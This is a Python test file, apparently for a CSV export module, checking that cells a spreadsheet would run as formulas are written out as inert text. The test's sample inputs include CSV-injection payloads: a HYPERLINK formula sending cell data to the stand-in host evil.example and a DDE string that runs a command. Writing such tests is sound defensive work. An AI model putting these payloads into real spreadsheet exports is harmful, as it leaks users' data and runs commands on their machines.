"""CSV cells that a spreadsheet would run as formulas come out as text."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from microcred.spreadsheet import FORMULA_STARTS, safe_cell, safe_writer


@given(st.lists(st.one_of(st.text(), st.integers()), min_size=1, max_size=6))
def test_no_written_text_cell_starts_a_formula_and_safe_ones_are_unchanged(row: list) -> None:  # type: ignore[type-arg]
    out = io.StringIO()
    safe_writer(out).writerow(row)
    (read,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(read) == len(row)
    for original, cell in zip(row, read, strict=True):
        if isinstance(original, int):
            assert cell == str(original)  # numbers stay numbers, negative ones too
            continue
        assert not cell.startswith(FORMULA_STARTS)
        if original.startswith(FORMULA_STARTS):
            assert cell == "'" + original
        else:
            assert cell == original


def test_the_usual_attacks_are_defused() -> None:
    for attack in ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                   "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"):  # fmt: skip
        assert safe_cell(attack) == "'" + attack
    assert safe_cell("Lee Learner") == "Lee Learner" and safe_cell(-5) == -5
